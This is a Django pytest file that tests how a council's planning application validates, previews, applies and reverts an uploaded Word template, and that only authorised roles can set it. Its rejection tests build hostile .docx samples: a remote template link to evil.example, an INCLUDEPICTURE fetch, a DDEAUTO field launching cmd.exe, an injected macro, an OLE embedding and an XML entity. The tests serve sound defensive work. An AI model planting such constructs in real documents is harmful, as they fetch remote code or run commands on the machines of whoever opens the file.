"""A council's own Word template: only what holds nothing hostile is taken, it is seen before it is used, and there is a way back."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError, transaction
from docx import Document

from goldenthread.assessments.uploads import BadFile
from goldenthread.plans.models import WordTemplate
from goldenthread.plans.word_template import taken

from .conftest import as_viewer, get, post, practitioner, text_of
from .test_sending import sent, the_sent  # noqa: F401

PAGE = "/administration/word-template/"


def template(words="Essex County Council", header="Plans of Essex"):
    made, out = Document(), io.BytesIO()
    made.add_paragraph(words)
    made.sections[0].header.paragraphs[0].text = header
    made.save(out)
    return out.getvalue()


def altered(change, add=None):
    """A template of which some part was altered, or that has another part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def upload(data, name="essex.docx"):
    return SimpleUploadedFile(name, data)


def relates(target, kind="attachedTemplate"):
    link = f'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'.encode()
    return altered(lambda name, data: data.replace(b"</Relationships>", link + b"</Relationships>") if name == "word/_rels/document.xml.rels" else data)


def field(code):
    words = f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p><w:sectPr".encode()
    return altered(lambda name, data: data.replace(b"<w:sectPr", words, 1) if name == "word/document.xml" else data)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"%PDF-1.7", "not a Word document"),
        (b"PK\x03\x04 nothing", "damaged"),
        (altered(lambda n, d: d, {"word/vbaProject.bin": b"macro"}), "macros"),
        (altered(lambda n, d: d.replace(b"document.main+xml", b"document.macroEnabled.main+xml") if "Content_Types" in n else d), "macros"),
        (altered(lambda n, d: d.replace(b"wordprocessingml.document.main", b"wordprocessingml.template.main") if "Content_Types" in n else d), "template of Word"),
        (relates("https://evil.example/t.dotm"), "points to something outside"),
        (relates("https://evil.example/x.png", "image"), "points to something outside"),
        (relates("file://server/share", "hyperlink"), "points to something outside"),
        (field('INCLUDEPICTURE "http://evil.example/x"'), "fetches something from elsewhere"),
        (field('DDEAUTO c:\\\\cmd.exe "/k calc"'), "fetches something from elsewhere"),
        (altered(lambda n, d: d, {"word/embeddings/oleObject1.bin": b"x"}), "another document in it"),
        (altered(lambda n, d: re.sub(rb"^<\?xml[^>]*>", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>', d) if n == "word/styles.xml" else d), "not made by Word"),
        (altered(lambda n, d: d[: len(d) // 2] if n == "word/styles.xml" else d), "damaged"),
        (altered(lambda n, d: d, {"word/media/huge.bin": bytes(101 * 1024 * 1024)}), "more than we can check|larger"),
    ],
)
def test_what_is_hostile_or_no_template_is_refused_with_its_reason(data, says):
    with pytest.raises(BadFile, match=says):
        taken(upload(data))


def test_a_template_of_which_a_part_was_overwritten_is_refused():
    whole = template()
    packed = zipfile.ZipFile(io.BytesIO(whole)).getinfo("word/document.xml").header_offset + 60
    with pytest.raises(BadFile, match="is damaged"):
        taken(upload(whole[:packed] + b"\xff" * 40 + whole[packed + 40:]))


def test_a_template_with_a_page_number_and_a_header_is_taken():
    assert taken(upload(template())).name == "essex.docx"
    assert taken(upload(field("PAGE \\* MERGEFORMAT"))).name == "essex.docx"


@pytest.fixture
def boss(sent):  # noqa: F811
    return practitioner("Ines Long", "la-send-manager", sent.council)


def words_of(page):
    return [p.text for p in Document(io.BytesIO(page.content)).paragraphs]


def test_it_is_seen_before_it_is_used_and_there_is_a_way_back(sent, boss):  # noqa: F811
    assert "comes as the standard one" in text_of(get(boss, PAGE))
    assert post(boss, PAGE, file=upload(template())).status_code == 302
    assert words_of(get(sent.anna, f"{sent.path}plan.docx"))[0] != "Essex County Council"
    made = WordTemplate.objects.get()
    preview = Document(io.BytesIO(get(boss, f"{PAGE}{made.pk}/").content))
    assert [p.text for p in preview.paragraphs][:2] == ["Essex County Council", "Plan for Sam Example"]
    assert preview.sections[0].header.paragraphs[0].text == "Plans of Essex"

    assert post(boss, PAGE, do="use", which=str(made.pk)).status_code == 302
    assert "comes as “essex.docx”" in text_of(get(boss, PAGE))
    taken_away = Document(io.BytesIO(get(sent.anna, f"{sent.path}plan.docx").content))
    assert taken_away.paragraphs[0].text == "Essex County Council"
    assert taken_away.sections[0].header.paragraphs[0].text == "Plans of Essex"

    assert post(boss, PAGE, do="use").status_code == 302
    assert "comes as the standard one" in text_of(get(boss, PAGE))
    assert words_of(get(sent.anna, f"{sent.path}plan.docx"))[0] != "Essex County Council"
    # Who used which and when stays on record.
    assert [(t.same_as, t.sent_by_name) for t in WordTemplate.objects.filter(used_at__isnull=False).order_by("used_at")] == [(made.pk, "Ines Long"), (None, "Ines Long")]


def test_a_bad_file_is_told_beside_its_field_and_nothing_is_kept(sent, boss):  # noqa: F811
    assert "macros" in text_of(post(boss, PAGE, file=upload(altered(lambda n, d: d, {"word/vbaProject.bin": b"x"}))))
    assert "Choose a Word document" in text_of(post(boss, PAGE))
    for which in ("x", "00000000-0000-0000-0000-000000000000"):
        assert post(boss, PAGE, do="use", which=which).status_code == 404
    assert not WordTemplate.objects.exists()


def test_only_those_who_lead_or_administer_a_council_set_its_template(sent, boss):  # noqa: F811
    post(boss, PAGE, file=upload(template()))
    made = WordTemplate.objects.get()
    for someone in (sent.priya, sent.anna, sent.leila, sent.dina, sent.tom):
        for path in (PAGE, f"{PAGE}preview/", f"{PAGE}{made.pk}/"):
            assert get(someone, path).status_code == 404
        assert post(someone, PAGE, do="use", which=str(made.pk)).status_code == 404
    other = practitioner("Otto Else", "la-send-manager", sent.stranger.who.organisation)
    assert get(other, f"{PAGE}{made.pk}/").status_code == 404
    assert post(other, PAGE, do="use", which=str(made.pk)).status_code == 404
    for someone in (sent.priya, other):
        row = WordTemplate(owner=sent.council, sent_by=someone.user.pk, sent_by_name="x")
        with pytest.raises(DatabaseError, match="row-level security"), transaction.atomic():
            as_viewer(someone, lambda v, row=row: WordTemplate.objects.bulk_create([row]))
    it = practitioner("Ada Key", "system-administrator", sent.council)
    assert get(it, PAGE).status_code == 200
    assert "Word template for plans" in text_of(get(it, "/administration/"))
